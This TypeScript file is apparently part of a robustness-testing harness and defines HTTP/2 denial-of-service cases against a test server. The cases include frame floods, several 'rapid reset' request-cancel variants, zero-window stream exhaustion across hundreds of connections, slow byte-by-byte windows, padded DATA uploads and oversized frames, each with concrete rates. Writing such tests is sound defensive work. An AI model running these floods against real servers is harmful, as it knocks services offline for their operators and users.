// Floods of frames over HTTP/2, and misuse of windows and bodies.
import type { Attack } from "../attack.ts";
import { again, anything } from "../stream.ts";
import {
  block,
  code,
  flags,
  frame,
  headers,
  initialWindow,
  preface,
  settingsFrame,
  streamOf,
  types,
  windowUpdate,
  withStream,
} from "./http2-bytes.ts";
import { http2 } from "./http2-heads.ts";
import { repeated } from "./requests.ts";

const getHead = headers(1, block("GET", "/v1/ok"));
const missingHead = headers(1, block("GET", "/none"));
const postHead = headers(1, block("POST", "/v1/ok"), flags.none);
const unreadHead = headers(1, block("POST", "/v1/never"), flags.none);
const cancel = frame(types.reset, flags.none, 1, code(8));
/** A preface and streams that stay open. */
const openStreams = (count: number, head: Buffer, ...settings: (readonly [number, number])[]): Buffer =>
  Buffer.concat([preface(...settings), ...Array.from({ length: count }, (_, i) => withStream(head, streamOf(i)))]);

/** The same frame, as many times as it fits into a packet. */
function flood(name: string, what: string, one: Buffer): Attack {
  return http2(name, what, { next: again(repeated(one, Math.max(1, Math.floor(1400 / one.length)))) });
}

/** Frames in the body of a POST. */
function upload(name: string, what: string, one: Buffer): Attack {
  const prelude = openStreams(1, postHead);
  const next = again(repeated(one, Math.max(1, Math.floor(1400 / one.length))));
  return http2(name, what, { prelude, preludeRequests: 1, next });
}

const unknown = frame(types.unknown, 0, 0, Buffer.alloc(16_384));

export const http2Floods: readonly Attack[] = [
  flood("pings", "PING", frame(types.ping, 0, 0, Buffer.alloc(8))),
  flood("settings-empty", "empty SETTINGS", settingsFrame()),
  flood(
    "settings-full",
    "SETTINGS with 2,700 entries",
    settingsFrame(...Array.from({ length: 2700 }, (_, i) => [initialWindow, 65_535 - (i % 2)] as const)),
  ),
  flood("priorities", "PRIORITY of idle streams", frame(types.priority, 0, 101, Buffer.from([0, 0, 0, 99, 1]))),
  flood(
    "priority-updates",
    "PRIORITY_UPDATE",
    frame(types.priorityUpdate, 0, 0, Buffer.concat([code(1), Buffer.from("u=0")])),
  ),
  flood("window-updates", "WINDOW_UPDATE of the connection by one byte", windowUpdate(0, 1)),
  flood("unknown-empty", "empty frames of an unknown type", frame(types.unknown, 0, 0)),
  flood("unknown-full", "frames of an unknown type, 16 KiB each", unknown),
  flood("goaways", "GOAWAY", frame(types.goaway, 0, 0, Buffer.alloc(8))),
  flood("alt-svc", "ALTSVC", frame(types.altSvc, 0, 0, Buffer.from("\0\0x"))),
  flood("resets-idle", "RST_STREAM of idle streams", frame(types.reset, 0, 1001, code(8))),
  http2("rapid-reset", "requests that are reset at once", {
    connections: 4,
    next: (i) => withStream(Buffer.concat([getHead, cancel]), streamOf(i)),
    requests: 1,
    bytesPerSecond: 300_000,
  }),
  http2("rapid-reset-by-server", "requests that the server has to reset: a window of 0", {
    connections: 4,
    next: (i) => withStream(Buffer.concat([getHead, windowUpdate(1, 0)]), streamOf(i)),
    requests: 1,
    bytesPerSecond: 300_000,
  }),
  http2("rapid-reset-not-found", "requests to no route that are reset at once", {
    connections: 4,
    next: (i) => withStream(Buffer.concat([missingHead, cancel]), streamOf(i)),
    requests: 1,
    bytesPerSecond: 300_000,
  }),
  http2("window-0-streams", "300 connections with 100 answers that cannot leave", {
    connections: 300,
    prelude: preface([initialWindow, 0]),
    next: (i) =>
      i === 0 ? Buffer.concat(Array.from({ length: 100 }, (_, n) => withStream(missingHead, streamOf(n)))) : null,
    requests: 100,
    bytesPerSecond: 5_000_000,
  }),
  http2("window-by-byte", "answers that leave byte by byte", {
    prelude: openStreams(50, getHead, [initialWindow, 0]),
    preludeRequests: 50,
    next: (i) => windowUpdate(streamOf(i % 50), 1),
    bytesPerSecond: 500_000,
  }),
  http2("window-flips", "SETTINGS that change the window of 100 open streams", {
    prelude: openStreams(100, unreadHead),
    preludeRequests: 100,
    next: again(
      repeated(Buffer.concat([settingsFrame([initialWindow, 0]), settingsFrame([initialWindow, 65_535])]), 40),
    ),
  }),
  upload("data-1-byte", "an upload in DATA frames of one byte", frame(types.data, 0, 1, "x")),
  upload("data-empty", "empty DATA frames", frame(types.data, 0, 1)),
  upload(
    "data-padded",
    "DATA frames of padding alone",
    frame(types.data, flags.padded, 1, Buffer.from([255, ...Buffer.alloc(255)])),
  ),
  upload(
    "data-1-byte-padded",
    "DATA frames of one byte with padding",
    frame(types.data, flags.padded, 1, Buffer.from([9, 0x78, ...Buffer.alloc(9)])),
  ),
  http2("data-between-unknown", "DATA of one byte between unknown frames of 16 KiB, the upstream does not read", {
    prelude: openStreams(6, unreadHead),
    preludeRequests: 6,
    next: (i) => Buffer.concat([frame(types.data, 0, streamOf(i % 6), "x"), unknown]),
    bytesPerSecond: 200_000_000,
  }),
  http2("data-unread", "100 uploads, the upstream does not read", {
    prelude: openStreams(100, unreadHead),
    preludeRequests: 100,
    next: (i) => (i < 400 ? frame(types.data, 0, streamOf(i % 100), Buffer.alloc(16_000)) : null),
    bytesPerSecond: 50_000_000,
  }),
  http2("http2-responses-large", "90 responses of 8 MiB at the same time", {
    prelude: openStreams(90, headers(1, block("GET", "/v1/large/8388608")), [initialWindow, 8_388_608]),
    preludeRequests: 90,
    next: (i) => (i === 0 ? windowUpdate(0, 2_000_000_000) : null),
  }),
  http2("http2-responses-unread", "90 responses of 8 MiB that nobody reads", {
    reads: false,
    prelude: openStreams(90, headers(1, block("GET", "/v1/large/8388608")), [initialWindow, 8_388_608]),
    preludeRequests: 90,
    next: (i) => (i === 0 ? windowUpdate(0, 2_000_000_000) : null),
  }),
  http2("http2-prefaces", "connections that end after the preface", {
    connections: 20,
    next: () => null,
    leavesOn: anything,
    bytesPerSecond: 100_000,
  }),
  http2("http2-frame-too-large", "a frame that announces 16 MiB", {
    next: again(Buffer.from([0xff, 0xff, 0xff, 0, 0, 0, 0, 0, 1])),
    bytesPerSecond: 50_000,
  }),
];
